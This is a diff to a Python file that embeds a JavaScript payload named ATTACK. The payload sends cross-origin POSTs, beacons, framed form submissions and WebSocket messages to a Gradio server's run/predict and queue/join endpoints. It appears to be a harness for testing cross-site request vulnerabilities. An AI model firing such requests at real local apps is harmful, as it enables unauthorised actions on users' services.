@@ -33,9 +33,14 @@ ATTACK = """async ([home, asked, secrets]) => {
         const content = kind ? body : new Blob([body]);
         try { hear(`POST ${path} ${kind} ${mode}`, await (await fetch(home + path, { method: 'POST', mode, headers, body: content })).text()); } catch { /* refused */ }
     };
+    /* each request in every way; all tokens and numbers in the way that needs no leave, of the others one in each */
+    const ways = kinds.flatMap((kind) => ['no-cors', 'cors'].map((mode) => [kind, mode]));
+    const variants = tokens.length * 2;
     for (const path of paths)
-        for (const kind of kinds)
-            for (const mode of ['no-cors', 'cors']) await Promise.all(bodies.map((body) => send(path, body, kind, mode)));
+        for (const [way, [kind, mode]] of ways.entries()) {
+            const some = kind === 'text/plain' && mode === 'no-cors' ? bodies : bodies.filter((_, one) => one % variants === way % variants);
+            await Promise.all(some.map((body) => send(path, body, kind, mode)));
+        }
     for (const body of bodies) navigator.sendBeacon(home + 'run/predict', new Blob([body], { type: 'text/plain' }));
     /* a form whose one field spells JSON, sent into a frame */
     for (const body of bodies.slice(0, 4)) {
@@ -49,13 +54,16 @@ ATTACK = """async ([home, asked, secrets]) => {
         frame.remove();
     }
     /* gradio 3 takes requests over a socket, too */
-    for (const body of bodies) await new Promise((done) => {
+    await Promise.all(bodies.map((body) => new Promise((done) => {
         const socket = new WebSocket(`${home.replace('http', 'ws')}queue/join`);
-        socket.onopen = () => { socket.send(JSON.stringify({ fn_index: 0, session_hash: 's' })); socket.send(body); };
+        socket.onopen = () => {
+            socket.send(JSON.stringify({ fn_index: 0, session_hash: 's' }));
+            socket.send(body);
+            setTimeout(() => { socket.close(); done(); }, 500);
+        };
         socket.onmessage = (event) => hear('socket', event.data);
         socket.onerror = socket.onclose = done;
-        setTimeout(() => { socket.close(); done(); }, 500);
-    });
+    })));
     return heard;
 }"""
 # from a sandboxed frame the origin is called "null"
